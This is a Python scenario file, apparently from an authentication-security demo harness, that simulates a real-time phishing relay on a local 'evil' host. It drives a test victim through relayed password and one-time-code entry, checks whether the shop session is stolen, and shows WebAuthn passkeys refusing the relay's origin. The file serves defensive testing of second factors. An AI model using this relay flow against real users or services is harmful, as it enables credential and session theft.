"""A real-time phishing relay (adversary in the middle).

Threat: the victim follows a link to `evil.authgate.localhost`, which relays the IdP's real login
pages (attacks/relay.py): the victim types the password, then the one-time code from their
authenticator app, into the relay, which passes each on to the IdP at once, follows the IdP's
redirect to the Store itself and keeps the session. A code is only good for seconds; the relay
needs only seconds.
Against a passkey the relay has nothing to pass on: the WebAuthn ceremony runs in the victim's
browser on the relay's origin, and the browser will not use the victim's credential there -- its
RP ID (the IdP's host) is not the relay's host, and a credential is never offered to another RP
ID; an assertion made on the relay would carry the relay's origin in its signed clientDataJSON.
Stolen: the victim's session at the Store.
What stops it: origin-bound credentials (WebAuthn passkeys). TOTP does not.
"""
from __future__ import annotations

import asyncio
import base64
import re
import secrets
from urllib.parse import urlsplit

from authgate_demo.attacks import passkey
from authgate_demo.attacks.factors import HOSTED
from authgate_demo.attacks.harness import NotRunnable
from authgate_demo.attacks.matrix import Cell, blocked, succeeded
from authgate_demo.attacks.relay import Relay
from authgate_demo.attacks.scenarios.factors import enter_code

ID = "f3-phishing-relay"
TITLE = "Real-time phishing relay on evil.authgate.localhost (password, then the code, relayed)"

PASSKEY_BUTTON = re.compile("passkey|security key", re.I)


def applies(setup: str) -> str | None:
    return None


def needs(setup: str) -> tuple[str, ...]:
    return () if setup == "password" else (HOSTED,)


async def _assert_on(page, rp_id: str, credential_id: str) -> str:  # type: ignore[no-untyped-def]
    challenge = base64.urlsafe_b64encode(secrets.token_bytes(32)).rstrip(b"=").decode()
    made = await passkey.get(page, {"challenge": challenge, "rpId": rp_id, "userVerification": "required", "timeout": 4000,
                                    "allowCredentials": [{"type": "public-key", "id": credential_id}]})
    if "error" in made:
        return f"refused by Chromium: {made['error'][:300]}"
    return f"an assertion was produced, with clientDataJSON origin {made.get('origin')}"


async def _press_passkey(page) -> str:  # type: ignore[no-untyped-def]
    """The victim presses the (relayed) page's passkey button; what the page then says."""
    button = page.get_by_role("button", name=PASSKEY_BUTTON)
    if not await button.count():
        return "the page offers no passkey button"
    await button.first.click()
    alert = page.locator("[role=alert]:visible")
    try:
        await alert.first.wait_for(timeout=4000)
    except Exception:  # noqa: BLE001 - Playwright's timeout: the page said nothing
        return f"nothing happened (still at {urlsplit(page.url).netloc})"
    texts = [t.strip() for t in await alert.all_inner_texts() if t.strip()]
    return "the page says: " + (" / ".join(texts) or "(an empty alert)")


async def run(ctx) -> Cell:  # type: ignore[no-untyped-def]
    victim = await ctx.account()
    evidence = [f"victim {victim.email} ({ctx.setup}) opens the phishing link to evil.authgate.localhost"]
    relay = Relay(ctx.url("idp"), ctx.url("store"), ctx.data_path, log=evidence)  # the relay's doings, in order
    await relay.start()
    ctx.cleanups.append(relay.stop)
    page = victim.page or await ctx.new_page()
    await page.goto(relay.origin + "/phish")
    evidence.append(f"Chromium shows \"{await page.title()}\" at {urlsplit(page.url).netloc} (the IdP's page, relayed)")
    if ctx.setup == "passkey":
        evidence.append("the victim first tries the relayed page's passkey sign-in: " + await _press_passkey(page))
    await page.fill("#loginId", victim.email)
    await page.fill("#password", victim.password)
    await page.click("form button[type=submit]")
    store_host = urlsplit(ctx.url("store")).netloc
    await page.wait_for_load_state()
    if urlsplit(page.url).netloc != store_host and ctx.setup == "password+totp":
        evidence.append("the relay shows the IdP's second-factor page; the victim types the current code from the app")
        if not await enter_code(page, await victim.next_code()):
            raise NotRunnable(f"the relayed second-factor page had no code field ({page.url})")
        await page.wait_for_load_state()
    elif urlsplit(page.url).netloc != store_host and ctx.setup == "passkey":
        creds = await passkey.credentials(victim.cdp, victim.authenticator_id)
        evidence.append(f"the victim's authenticator holds {len(creds)} passkey(s), for RP ID "
                        f"{sorted({c.get('rpId') for c in creds})}")
        evidence.append("then the relayed second-factor page's passkey button: " + await _press_passkey(page))
        idp_host = urlsplit(ctx.url("idp")).hostname or ""
        evil_host = urlsplit(relay.origin).hostname or ""
        evidence.append(f"on the relay, a WebAuthn request for the IdP's RP ID {idp_host}: "
                        + await _assert_on(page, idp_host, victim.credential_id))
        evidence.append(f"on the relay, the same request rewritten to the relay's RP ID {evil_host}: "
                        + await _assert_on(page, evil_host, victim.credential_id))
    for _ in range(20):  # the relay follows the IdP's redirect server-side; give it a moment
        if relay.cart_status is not None:
            break
        await asyncio.sleep(0.1)
    evidence.append(f"the victim ends at {urlsplit(page.url).netloc}{urlsplit(page.url).path}")
    if ctx.setup == "passkey":  # the control: the same passkey, asked for on the IdP's own origin
        await page.goto(ctx.url("idp") + "/.well-known/openid-configuration")
        evidence.append("control, the same tab on the IdP's own origin: "
                        + await _assert_on(page, urlsplit(ctx.url("idp")).hostname or "", victim.credential_id))
    if relay.cart_status == 200:
        return succeeded(stolen="the victim's Store session: the relay exchanged the code the IdP redirected it with",
                         usable_for=f"the Store session (JWT {ctx.jwt_ttl}s, renewed by its refresh cookie)",
                         mitigation="origin-bound credentials (a passkey); a one-time code is relayed like a password",
                         evidence=evidence)
    why = ("WebAuthn is origin-bound: the browser will not use the IdP's passkey on the relay's origin"
           if ctx.setup == "passkey" else "the relay got no session")
    return blocked(why, evidence, stolen="the password only" if "password" in relay.captured else "nothing")
